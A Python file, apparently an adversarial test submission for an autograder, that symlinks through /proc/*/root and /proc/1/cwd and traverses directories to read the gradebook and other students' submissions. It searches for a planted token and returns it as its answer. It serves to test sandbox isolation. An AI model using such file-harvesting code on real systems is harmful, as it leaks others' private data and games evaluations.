"""Looks for the source notebook, other submissions and the gradebook, by name and by links.

Deserves: 2 points.
Side effect: leak.
"""

import re

PATTERN = re.compile("tok" + "en-[0-9a-f]{32}")
import glob
import os

COURSE = "{course}"
for name, target in (("link", COURSE), ("root", "/proc/1/root" + COURSE), ("cwd", "/proc/1/cwd/../../.." + COURSE)):
    os.symlink(target, name)
places = [COURSE, "link", "root", "cwd", "/proc/self/root" + COURSE, "/home/student/../../" + COURSE]
places += ["/proc/%d/root%s" % (pid, COURSE) for pid in range(1, 50)]


def look():
    for place in places:
        for path in glob.glob(place + "/**/*", recursive=True):
            try:
                with open(path, errors="replace") as file:
                    if match := PATTERN.search(file.read()):
                        return match[0]
            except OSError:
                pass


print(look())


def guess():
    return look() or "wrong"


def numbers():
    found = look()
    return [float(ord(c)) for c in found[6:9]] if found else "wrong"
